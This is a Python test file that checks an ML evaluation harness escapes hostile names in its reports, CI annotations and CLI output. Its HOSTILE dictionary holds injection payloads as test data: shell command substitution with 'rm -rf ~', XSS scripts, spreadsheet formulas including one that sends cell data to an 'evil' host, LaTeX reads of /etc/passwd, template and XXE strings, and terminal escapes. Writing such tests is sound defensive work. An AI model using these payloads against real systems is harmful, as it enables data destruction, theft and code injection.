"""Names from suites, plugins and other people's records that would be run, followed or obeyed somewhere: they come out as text, everywhere."""

from __future__ import annotations

import csv
import json
import re
import unicodedata
import xml.etree.ElementTree as ElementTree
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from gate_factory import cell, plan
from record_factory import metric, write_run
from typer.testing import CliRunner

from harness.analysis.gate.compare import Comparison, compare_paths
from harness.cli.app import app
from harness.errors import SuiteError
from harness.records.schema import Record
from harness.report.gate.github import gate_github
from harness.report.gate.junit import gate_junit
from harness.report.gate.markdown import gate_markdown
from harness.report.markdown import escape_markdown
from harness.report.write import write_report
from harness.suite.load import load_suite

HOSTILE = {
    "upwards": "../../../../tmp/owned",
    "nul": "a\0b",
    "newline": "a\n# heading\n::error title=x::forged",
    "long": "n" * 300,
    "right-to-left": "abc\u202ecod.exe",
    "mark": "a\u200fb",
    "shell": "$(touch owned); `touch owned` && rm -rf ~ | cat",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x="',
    "end of script": "</script><script>alert(1)</script>",
    "markdown": "[click](javascript:alert(1)) ![x](http://evil/x.png) | ``` | <b> **b** #",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "formula": "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "wide": "＝1+1",
    "latex": "\\input{/etc/passwd} $\\frac{1}{2}$ % {\\write18{touch owned}} ^^5cinput #1 & ~",
    "math": "$\\undefined{$",
    "escape": "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "c1": "\x9b31mred",
    "workflow": "::set-output name=x::y%0A::error::z",
    "rich": "[/red] [link=http://evil]x[/link] :smile:",
    "template": "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7}",
    "xml": "]]><evil/>&xxe;",
}


def hostile_cells(name: str, seeds: int = 2) -> list[Record]:
    """Cells that have the name wherever a record holds text of others."""
    config = {"model": {"source": f"hub:{name}"}, "method": {"method": name}, "scheme": {"scheme": name}, "task": {"task": name, "data": name}}
    return [
        cell(
            model=name, quantization=name, method=method, task=name, seed=seed, config=config, notes=[name], sweep={"train.optim": name}, status=status,
            **({"metrics": [metric(name, 0.5 + seed / 10, protocol=name, task=None), metric("accuracy", 0.5, protocol=name)]} if status == "ok" else {}),
        )
        for seed in range(seeds) for method, status in ((name, "ok"), ("lora", "ok"), ("full", "failed"))
    ]  # fmt: skip


def write_hostile_run(folder: Path, *names: str) -> Path:
    records = [
        each.model_copy(update={
            "outcome": each.outcome.model_copy(update={"message": name if each.outcome.status == "failed" else None}),
            "cell": each.cell.model_copy(update={"suite": name, "profile": name}),
            "environment": each.environment.model_copy(update={"host": name, "cpu": name, "packages": {name: name}}),
        })
        for name in names for each in hostile_cells(name)
    ]  # fmt: skip
    return plan(write_run(folder, records), [each.cell.id for each in records])


class Elements(HTMLParser):
    """What a browser would make of a page: its elements and their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def unseen(text: str) -> list[str]:
    """Characters that a terminal or an editor obeys instead of showing them."""
    return [each for each in text if (unicodedata.category(each) in ("Cc", "Cs", "Zl", "Zp") and each not in "\n\t") or each in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff"]


SOME = tuple(HOSTILE[kind] for kind in ("newline", "html", "markdown", "formula"))


@pytest.fixture(params=[pytest.param(SOME, id="some"), pytest.param(tuple(HOSTILE.values()), id="all at once", marks=pytest.mark.slow), *(pytest.param((text,), id=kind, marks=pytest.mark.slow) for kind, text in HOSTILE.items())])
def names(request: pytest.FixtureRequest) -> tuple[str, ...]:
    """Some of the names, and, where there is time, all of them, and each alone: then a failure says which it was."""
    given: tuple[str, ...] = request.param
    return given


def test_every_file_of_a_report_shows_the_names_as_text(names: tuple[str, ...], tmp_path: Path, ledger: Callable[..., None]) -> None:
    written = _report(tmp_path, *names)
    if len(names) == len(HOSTILE):
        ledger(area="hostile input", check="names that would be run, followed or obeyed, in every field of a record: report.md, .html, .json, CSV, LaTeX", tried=len(names), survived=len(names), note=f"{written} files")


def _report(folder: Path, *names: str) -> int:
    """Writes a report of cells with these names, looks into every file, and returns how many there are."""
    run, out = write_hostile_run(folder / "run", *names), folder / "out"
    before = {path for path in folder.rglob("*") if out not in path.parents and path != out}
    paths = write_report(run, ["md", "html", "csv", "json", "latex"], out)
    assert all(out in path.resolve().parents for path in paths)
    assert {path for path in folder.rglob("*") if out not in path.parents and path != out} == before, "something was written elsewhere"
    for path in paths:
        text = path.read_text(encoding="utf-8")
        assert len(path.name) <= 100, path.name
        own = text if path.suffix != ".html" else re.sub(r"<script>.*?</script>", "", text, flags=re.DOTALL)  # plotly.js' own text has such characters
        assert not unseen(own), f"{path.name}: {unseen(own)!r}"
    _check_page((out / "report.html").read_text(encoding="utf-8"))
    _check_markdown((out / "report.md").read_text(encoding="utf-8"))
    for path in out.rglob("*.csv"):
        _check_csv(path)
    for path in out.rglob("*.tex"):
        _check_latex(path.read_text(encoding="utf-8"))
    json.loads((out / "report.json").read_text(encoding="utf-8"))
    return len(paths)


def _check_page(text: str) -> None:
    page = Elements()
    page.feed(text)
    scripts = [attributes for tag, attributes in page.found if tag == "script"]
    assert len([each for each in scripts if each.get("type") != "application/json"]) <= 2, "a script that is not ours"
    assert not [tag for tag, _ in page.found if tag in ("img", "iframe", "object")]
    assert not [attributes for _, attributes in page.found if any(key.startswith("on") for key in attributes)]
    assert all((attributes.get("href") or "").startswith(("#", "data:,")) for tag, attributes in page.found if tag in ("a", "link"))


def _check_markdown(text: str) -> None:
    outside = re.sub(r"^(`{3,})\n.*?^\1$", "", text, flags=re.DOTALL | re.MULTILINE)
    bare = re.sub(r"\\.", "", outside)  # what is escaped is text
    assert "<script" not in bare
    assert "<img" not in bare
    assert "](javascript" not in bare
    assert "](http" not in bare
    assert "&lt;" not in bare
    assert "```" not in bare
    assert not re.search(r"^::", bare, flags=re.MULTILINE)
    headings = [line for line in bare.splitlines() if line.startswith("#")]
    assert not [line for line in headings if line.startswith("# heading")]
    for table in re.findall(r"(?:^\|.*\n)+", bare, flags=re.MULTILINE):
        assert len({line.count("|") for line in table.splitlines()}) == 1, f"a name ends a cell: {table}"


def _check_csv(path: Path) -> None:
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file, strict=True))
    assert len({len(row) for row in rows}) == 1
    for value in (value for row in rows for value in row):
        is_number = re.fullmatch(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?", value)
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")) or is_number, value


def _check_latex(text: str) -> None:
    bare = re.sub(r"\\[{}&%$#_]", "", text)
    assert not re.search(r"\\(input|write|frac|undefined)", text)
    assert "^^" not in bare
    for line in bare.splitlines():
        assert line.startswith("%") or "%" not in line
        assert "#" not in line
        assert "~" not in line


def test_names_in_a_comparison_forge_no_annotation_and_no_test_case(names: tuple[str, ...], tmp_path: Path) -> None:
    found = _comparison(tmp_path, *names)
    assert found.verdict == "regression", "there is something to tell"
    page = ElementTree.fromstring(gate_junit(found))
    assert {element.tag for element in page.iter()} <= {"testsuites", "testsuite", "testcase", "failure", "error", "skipped", "system-out"}
    commands = gate_github(found)
    assert all(re.match(r"::(error|warning|notice) title=[^:,\n]*::", line) for line in commands.splitlines())
    markdown = gate_markdown(found)
    _check_markdown(markdown)
    for text in (commands, markdown, gate_junit(found)):
        assert not unseen(text), unseen(text)


def _comparison(folder: Path, *names: str) -> Comparison:
    """Of a run with one in which every cell fails, and says so in those words."""
    before = [each for name in names for each in hostile_cells(name, 1) if each.outcome.status == "ok"]
    now = [
        each.model_copy(update={"outcome": each.outcome.model_copy(update={"status": "failed", "phase": "train", "message": each.cell.model}), "metrics": []}) for each in before
    ]
    left, right = (plan(write_run(folder / side, records), [each.cell.id for each in records]) for side, records in (("a", before), ("b", now)))
    return compare_paths(str(left), right, None, ())


COMMANDS: dict[str, Callable[[Path, str], list[str]]] = {
    "card": lambda run, id_: ["card", str(run), "--cell", id_],
    "compare": lambda run, id_: ["compare", str(run), str(run)],
    "history": lambda run, id_: ["history", "add", str(run), str(run.parent / "history.sqlite")],
    "trend": lambda run, id_: ["trend", str(run.parent / "history.sqlite"), "--metric", "timing.total"],
    "lm-eval": lambda run, id_: ["export", str(run), "--to", "lm-eval", "--out", str(run.parent / "out" / "lm-eval")],
    "peft": lambda run, id_: ["export", str(run), "--to", "peft-method-comparison", "--out", str(run.parent / "out" / "peft")],
}  # fmt: skip


def test_no_command_prints_what_a_terminal_obeys_or_writes_elsewhere(names: tuple[str, ...], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    run = write_hostile_run(tmp_path / "run", *names)
    id_ = next(path.stem for path in sorted((run / "records").glob("*.json")) if '"ok"' in path.read_text())
    for command, arguments in COMMANDS.items():
        done = CliRunner().invoke(app, arguments(run, id_))
        assert done.exception is None or isinstance(done.exception, SystemExit) or done.exception.__class__.__module__ == "harness.errors", (command, done.exception)
        shown = done.output + (str(done.exception) if done.exception else "")
        assert not unseen(shown), f"{command}: {unseen(shown)!r}"
    assert {path.name for path in tmp_path.iterdir()} <= {"run", "out", "history.sqlite"}, "something was written elsewhere"
    assert not list(tmp_path.rglob("owned*"))


@pytest.mark.parametrize("place", ["name", "model id", "method id", "task id", "claim id", "profile"])
def test_a_suite_takes_no_such_name(place: str, tmp_path: Path) -> None:
    for name in HOSTILE.values():
        suite: dict[str, Any] = {"name": "s", "models": [{"id": "m", "source": "hub:a/b"}], "methods": [{"id": "l", "method": "lora"}], "tasks": [{"id": "t", "task": "glue/rte"}]}
        suite["claims"] = [{"id": "c", "source": "s", "left": {"metric": "accuracy"}, "relation": ">", "right": 1}]
        where = {"name": (suite, "name"), "model id": (suite["models"][0], "id"), "method id": (suite["methods"][0], "id"), "task id": (suite["tasks"][0], "id"), "claim id": (suite["claims"][0], "id")}
        if place == "profile":
            suite["profiles"] = {name: {"seeds": [1]}}
        else:
            mapping, key = where[place]
            mapping[key] = name
        file = tmp_path / "s.yaml"
        file.write_text(json.dumps(suite), encoding="utf-8")
        with pytest.raises(SuiteError) as refused:
            load_suite(file)
        assert not unseen(str(refused.value)), name


@pytest.mark.parametrize("text", ["a\x1b[31m", "a\0", "a\u202eb", "\u2066a", "\x9b1m"])
def test_a_suite_holds_no_text_that_a_terminal_obeys_or_that_reads_otherwise(text: str, tmp_path: Path) -> None:
    file = tmp_path / "s.yaml"
    file.write_text("name: s\ntitle: " + json.dumps(text) + "\nmodels: [hub:a/b]\nmethods: [lora]\ntasks: [glue/rte]\n", encoding="utf-8")
    with pytest.raises(SuiteError, match=r"s\.yaml:2:8: the character U\+[0-9A-F]{4} \(control, or direction of writing\) is not allowed"):
        load_suite(file)


@pytest.mark.parametrize(("text", "escaped"), [("&lt;", "\\&lt;"), ("R&D", "R&D"), ("- x", "\\- x"), ("-1.5", "-1.5"), ("1. x", "\\1. x"), ("===", "\\==="), ("---", "\\---"), ("\x1b[1m", "\\\\x1b\\[1m")])
def test_markdown_is_escaped_where_it_would_be_read(text: str, escaped: str) -> None:
    assert escape_markdown(text) == escaped
